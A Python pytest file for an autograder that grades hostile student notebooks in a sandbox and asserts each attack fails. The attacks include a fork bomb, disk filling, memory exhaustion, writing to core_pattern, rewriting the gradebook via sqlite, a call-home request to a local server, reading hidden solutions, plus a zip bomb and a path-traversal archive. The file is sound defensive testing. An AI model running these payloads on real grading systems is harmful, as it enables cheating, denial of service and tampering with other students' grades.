"""Attacks on the grader itself and bad input, through real grading on parallel workers.

Honest students are graded first; then every attacker and every broken file goes
through `grade_assignment` with two Dask workers in the sandbox. Afterwards the
honest grades must be exactly what they were, every attacker must score zero on
the test its wrong answer fails, every broken file must have its own reason (in
the result and in the student's feedback), and the submissions folder must be
byte for byte what it was.
"""

from __future__ import annotations

import json
import zipfile

import nbformat
import pytest

from autograde.build.source import REPO_ROOT
from autograde.report import export_csv, write_summary
from autograde.run.grade import grade_assignment, read_grade, write_submission
from autograde.run.sandbox import Limits

from .conftest import built, needs_bwrap, submission
from .test_intake import tree_digest

pytestmark = [pytest.mark.slow,
              needs_bwrap]

WRONG = "\ndef standardize(X):\n    return X - X.mean(axis=0)  # forgets to scale\n"
# What an attacker writes once an escape worked: the right answer, so an escape shows up as points.
RIGHT = "\ndef standardize(X):\n    return (X - X.mean(axis=0)) / X.std(axis=0)\n"


def attacks(course_root, port: int, other_checkout=None) -> dict[str, str]:
    gradebook = course_root / "gradebook.db"
    return {
        # The reference solution through the repository's git history.
        "reads-git-history": f"""
import re, subprocess
try:
    code = subprocess.run(['git', '-C', {str(REPO_ROOT)!r}, 'show', 'HEAD:solutions/00_setup.py'],
                          capture_output=True, text=True).stdout
    exec(re.search(r"def standardize.*?return .*?\\n", code, re.S).group(0))
except Exception:
{WRONG.replace(chr(10), chr(10) + '    ')}
""",
        # Another checkout of the course elsewhere on the machine.
        "reads-other-checkout": f"""
import re
try:
    code = open({str(other_checkout)!r}).read()
    exec(re.search(r"def standardize.*?return .*?\\n", code, re.S).group(0))
except Exception:
{WRONG.replace(chr(10), chr(10) + '    ')}
""",
        # Root in the kernel: kernel settings writable (a piped core_pattern runs as root on the host).
        "writes-kernel-settings": """
import os
try:
    os.close(os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY))
    escaped = True
except OSError:
    escaped = os.getuid() == 0
""" + "if escaped:" + RIGHT.replace(chr(10), chr(10) + "    ") + "else:" + WRONG.replace(chr(10), chr(10) + "    "),
        # Fills its scratch space until the disk is full.
        "fills-the-disk": """
import os
for folder in (os.path.expanduser('~'), '/tmp', os.getcwd()):
    try:
        for i in range(100_000):
            with open(os.path.join(folder, f'fill-{len(folder)}-{i}.bin'), 'wb') as f:
                f.write(b'x' * (64 << 20))
    except OSError:
        pass
""" + WRONG,
        # Output the cell limit does not see: the probe's MIME type and display updates, 48 MiB each.
        "floods-probe-and-updates": """
from IPython.display import display
for i in range(48):
    display({'application/vnd.dl-course.probe+json': {'check': f'junk{i}', 'value': 'x' * (1 << 20)}}, raw=True)
handle = display({'text/plain': 'small'}, raw=True, display_id=True)
for i in range(48):
    handle.update({'text/plain': str(i % 10) * (1 << 20)}, raw=True)
""" + WRONG,
        # The attack from the issue: rewrite everybody's grades through the gradebook file.
        "rewrites-gradebook": f"""
import glob, os, sqlite3
for path in [{str(gradebook)!r}, '../../../gradebook.db', *glob.glob('/tmp/**/gradebook.db', recursive=True)]:
    try:
        db = sqlite3.connect(path)
        db.execute('UPDATE grade SET manual_score = 0')
        db.execute('UPDATE grade SET auto_score = 1')
        db.commit()
        print('rewrote', path)
    except Exception as exc:
        print('no', path, type(exc).__name__)
""" + WRONG,
        # Copies the instructor's solution if it can read it.
        "copies-solution": f"""
import re
try:
    code = open({str(REPO_ROOT / 'solutions' / '00_setup.py')!r}).read()
    exec(re.search(r"def standardize.*?return .*?\\n", code, re.S).group(0))
except OSError:
{WRONG.replace(chr(10), chr(10) + '    ')}
""",
        # Reads the reference results or other students' files.
        "reads-grader-files": f"""
import os
for root in [{str(course_root)!r}, {str(course_root / 'reference')!r}, {str(course_root / 'autograded')!r}]:
    print(root, os.path.exists(root) and os.listdir(root))
""" + WRONG,
        # Plants a file in another student's feedback.
        "writes-others-feedback": f"""
import os
try:
    os.makedirs({str(course_root / 'feedback' / 'honest-1')!r}, exist_ok=True)
    open({str(course_root / 'feedback' / 'honest-1' / 'planted.html')!r}, 'w').write('x')
except OSError as exc:
    print('refused', exc)
""" + WRONG,
        "phones-home": f"""
import urllib.request
try:
    urllib.request.urlopen('http://127.0.0.1:{port}/stolen', timeout=3)
except Exception as exc:
    print('offline', type(exc).__name__)
""" + WRONG,
        # In its own PID namespace its parent is an init that ignores the signal; either way no harm.
        "kills-its-parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + WRONG,
        "exits": "import os\nos._exit(0)\n" + WRONG,
        "hangs": "while True:\n    pass\n" + WRONG,
        "floods-output": "for _ in range(400):\n    print('spam' * 50_000)\n" + WRONG,
        "fork-bomb": """
import os, time
try:
    while True:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
except OSError:
    pass
""" + WRONG,
        "eats-memory": "hog = []\nwhile True:\n    hog.append(bytearray(256 << 20))\n" + WRONG,
        "patches-the-probe": """
import autograde.probe as probe
probe.encode = lambda value: 0.0
probe.report = lambda check, fn, **spec: probe._emit({"check": check, "spec": {"rtol": 1e9}, "value": 0.0})
""" + WRONG,
    }


def _lms_file_cases(release, answers, tmp_path):
    """name -> (file name, bytes); and the reasons expected for each."""
    good = submission(release, answers)
    nb = nbformat.reads(good, as_version=4)
    ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]
    deleted = nbformat.reads(good, as_version=4)
    del deleted.cells[ids.index("test_standardize")]
    renamed = nbformat.reads(good, as_version=4)
    renamed.cells[ids.index("test_standardize")].metadata.nbgrader["grade_id"] = "my_test"
    edited = nbformat.reads(good, as_version=4)
    edited.cells[ids.index("test_standardize")].source = "print('All visible tests passed.')"
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("00_setup.ipynb", b" " * (300 << 20))
    escape = tmp_path / "escape.zip"
    with zipfile.ZipFile(escape, "w") as z:
        z.writestr("../../00_setup.ipynb", good)
    zipped = tmp_path / "zipped.zip"
    with zipfile.ZipFile(zipped, "w") as z:
        z.writestr("work/00_setup.ipynb", good)
    files = {
        "lms-good.ipynb": good.encode(),
        "lms-zipped.zip": zipped.read_bytes(),
        "lms-empty.ipynb": b"",
        "lms-notjson.ipynb": b'{"cells": [',
        "lms-nbformat3.ipynb": json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": []}).encode(),
        "lms-nocells.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}).encode(),
        "lms-deleted-test.ipynb": nbformat.writes(deleted).encode(),
        "lms-renamed-test.ipynb": nbformat.writes(renamed).encode(),
        "lms-edited-locked.ipynb": nbformat.writes(edited).encode(),
        "lms-twice.ipynb": good.encode(),
        "lms-twice.zip": zipped.read_bytes(),
        "lms-bomb.zip": bomb.read_bytes(),
        "lms-escape.zip": escape.read_bytes(),
    }
    refused = {"lms-empty": "is empty", "lms-notjson": "not valid JSON", "lms-nbformat3": "nbformat=3",
               "lms-nocells": "has no cells", "lms-twice": "two or more submissions", "lms-bomb": "zip bomb",
               "lms-escape": "escapes its folder"}
    repaired = {"lms-deleted-test": "was missing", "lms-renamed-test": "was missing",
                "lms-edited-locked": "had been edited"}
    return files, refused, repaired


@pytest.fixture
def other_checkout():
    """A second checkout's solutions outside this repository (as on a shared grading machine)."""
    import shutil
    import tempfile
    from pathlib import Path

    Path("/srv").mkdir(exist_ok=True)
    root = Path(tempfile.mkdtemp(prefix="course-copy-", dir="/srv"))
    (root / "solutions").mkdir()
    shutil.copy(REPO_ROOT / "solutions" / "00_setup.py", root / "solutions" / "00_setup.py")
    yield root / "solutions" / "00_setup.py"
    shutil.rmtree(root, ignore_errors=True)


def test_attackers_and_broken_files_change_nothing_but_their_own_score(course, tmp_path, listening_server,
                                                                       other_checkout):
    release, answers = built(course, "00_setup")
    for student in ("honest-1", "honest-2"):
        write_submission(course, student, "00_setup", submission(release, answers))
    honest = grade_assignment(course, "00_setup", ["honest-1", "honest-2"], "cpu", feedback=False)
    assert [g.score for g in honest] == [g.auto_max_score for g in honest] and honest[0].score > 0

    port, hits = listening_server
    code = attacks(course.root, port, other_checkout)
    for name, attack in code.items():
        write_submission(course, name, "00_setup", submission(release, {"standardize": attack}))
    submitted_before = tree_digest(course.root / "submitted")
    limits = Limits(cell_timeout=15, notebook_timeout=90, memory=2 << 30, processes=64, cell_output=1 << 20)
    graded = {g.student: g for g in grade_assignment(course, "00_setup", list(code), "cpu", feedback=True,
                                                     workers=2, sandbox="bwrap", limits=limits)}

    assert hits == [], "a kernel reached the network"
    for name in code:
        g = graded[name]
        assert g.error is None, f"{name}: {g.error}"
        assert g.tests["test_standardize"][0] == 0, f"{name} earned points"
    assert "kernel died" in " ".join(graded["exits"].notes)
    assert "ran longer than 15 s" in " ".join(graded["hangs"].notes)
    assert "kernel died" in " ".join(graded["eats-memory"].notes) or graded["eats-memory"].score == 0
    flood = graded["floods-probe-and-updates"].stats
    print(f"\nfloods-probe-and-updates: graded in {flood['job_seconds']:.1f} s "
          f"(kernel {flood['seconds']:.1f} s); fills-the-disk: {graded['fills-the-disk'].stats['job_seconds']:.1f} s")
    assert flood["truncated_cells"] >= 1
    assert len(course.feedback_html("floods-probe-and-updates", "00_setup").read_bytes()) < 16 << 20
    assert not (course.root / "feedback" / "honest-1" / "planted.html").exists()
    for student, before in zip(("honest-1", "honest-2"), honest):
        after = read_grade(course, "00_setup", student, "cpu")
        assert (after.score, after.tests) == (before.score, before.tests), f"{student}'s grade changed"
    assert tree_digest(course.root / "submitted") == submitted_before
    feedback = course.feedback_html("hangs", "00_setup").read_text()
    assert "ran longer than 15 s" in feedback  # the reason reaches the student

    # Broken files, as an LMS exports them, in the same course.
    files, refused, repaired = _lms_file_cases(release, answers, tmp_path)
    lms = tmp_path / "lms"
    lms.mkdir()
    for name, data in files.items():
        (lms / name).write_bytes(data)
    lms_before = tree_digest(lms)
    results = {g.student: g for g in grade_assignment(course, "00_setup", None, "cpu", feedback=True, workers=2,
                                                      submissions_from=lms, sandbox="bwrap")}
    assert tree_digest(lms) == lms_before
    assert results["lms-good"].score == results["lms-zipped"].score == results["lms-good"].auto_max_score > 0
    for student, reason in refused.items():
        assert results[student].error and reason in results[student].error, (student, results[student].error)
        assert reason.split()[0] in course.feedback_html(student, "00_setup").read_text()
    for student, note in repaired.items():
        g = results[student]
        assert g.error is None and g.score == g.auto_max_score > 0, (student, g)
        assert note in " ".join(g.notes)
        assert note in course.feedback_html(student, "00_setup").read_text()
    for student, before in zip(("honest-1", "honest-2"), honest):
        assert read_grade(course, "00_setup", student, "cpu").score == before.score

    summary = write_summary(course, "00_setup", list(results.values()) + list(graded.values()))
    page = summary.read_text()
    assert "score distribution" in page and "lms-bomb" in page and "test_standardize" in page
    assert "honest-1" in export_csv(course).read_text()
